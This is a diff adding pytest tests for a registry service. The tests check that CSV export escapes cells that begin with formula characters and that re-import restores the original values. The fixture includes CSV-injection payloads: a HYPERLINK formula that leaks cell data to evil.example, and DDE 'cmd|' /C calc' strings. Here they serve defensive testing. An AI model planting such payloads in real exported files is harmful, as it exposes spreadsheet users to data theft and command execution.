@@ -10,6 +10,7 @@ import json
 import pytest
 from sqlalchemy.exc import IntegrityError
 
+from sihub_registry.actors.formats import neutralised
 from sihub_registry.actors.models import ActorFacet
 from sihub_registry.common.bulk import bulk_insert
 
@@ -261,3 +262,39 @@ async def test_a_unique_clash_in_a_bulk_insert_is_an_integrity_error(registry, n
     async with registry.app.state.database.session() as session:
         with pytest.raises(IntegrityError):
             await bulk_insert(session, ActorFacet, [{"facet": "issue_area", "value": "x", "actor_id": actor["id"]}] * 2)
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+82 2 000", "'+82 2 000"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), (-5, "'-5"), (2012, "2012"), ("Haessal", "Haessal"), (None, ""),
+    ("'=already quoted", "'=already quoted"),
+])
+def test_csv_cells_that_start_a_formula_are_quoted(cell, written):
+    assert neutralised(cell) == written
+
+
+async def test_csv_export_neutralises_formulas_and_still_imports_as_it_was(registry):
+    partner = registry.partner()
+    hostile = {
+        "names": [{"value": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "lang": "en"},
+                  {"value": "+cmd|' /C calc'!A0", "lang": "ko"}],
+        "descriptions": [{"value": "-2+3+cmd|' /C calc'!A0", "lang": "en"}],
+        "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "kind": "social_enterprise", "country": "KR", "region": "KR-11",
+    }
+    await partner.create("/actors", hostile)
+
+    exported = await partner.get("/actors/export", params={"format": "csv"})
+    assert exported.status_code == 200
+    [header, row] = list(csv.reader(io.StringIO(exported.text)))
+    cells = dict(zip(header, row, strict=True))
+    for column in ("name_en", "name_ko", "description_en", "locality"):
+        assert cells[column].startswith("'") and cells[column][1] in "=+-@", column
+    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    other = registry.partner()
+    imported = await other.post("/actors/import", content=exported.content, headers={"content-type": "text/csv"})
+    assert imported.status_code == 201, imported.text
+    [copy] = await listed(other, owner="me")
+    assert copy["names"] == hostile["names"] and copy["descriptions"] == hostile["descriptions"]
+    assert copy["locality"] == hostile["locality"]
